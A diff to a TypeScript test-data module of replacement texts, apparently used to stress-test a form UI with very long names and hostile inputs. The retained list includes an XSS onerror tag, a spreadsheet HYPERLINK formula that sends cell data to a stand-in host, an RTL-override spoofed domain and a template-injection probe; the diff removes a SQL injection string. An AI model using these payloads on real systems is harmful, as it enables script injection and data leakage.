@@ -2,11 +2,15 @@ import { longName } from '../components/form.tsx';
 import { hugeWord } from '../features/longTexts.ts';
 import type { PracticeTexts } from './choices.ts';
 
-/** Texts that replace those of records, in turns. */
+/**
+ * Texts that replace those of records, in turns. Their numbers are prime, so that a property of the next record has
+ * another one.
+ */
 const replacements: Readonly<Record<Exclude<PracticeTexts, 'usual'>, readonly string[]>> = {
   long: [
     longName,
     'The Very Long Established International Property Development Holding of the Gulf',
+    'Maximiliana Alexandrina Wilhelmina von Hohenberg-Falkenstein zu Sankt Georgen II',
     'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
     hugeWord,
   ],
@@ -14,7 +18,6 @@ const replacements: Readonly<Record<Exclude<PracticeTexts, 'usual'>, readonly st
     '<b>Not bold</b>',
     '<img src=x onerror="alert(1)">',
     '=HYPERLINK("http://collect.example/?q="&A1,"Mozilla")',
-    "Robert'); DROP TABLE developers;--",
     '\u202emoc.elpmaxe.knab\u202c',
     'Z\u0351\u036b\u0343\u036aa\u0342\u036b\u0353l\u0348\u034dg\u035e\u0361o\u0321\u0321',
     '{{constructor.constructor(1)}} %s %n null',
@@ -44,6 +47,7 @@ const written = new Set([
   'details',
   'reason',
   'user',
+  'actor',
   'userName',
 ]);
 
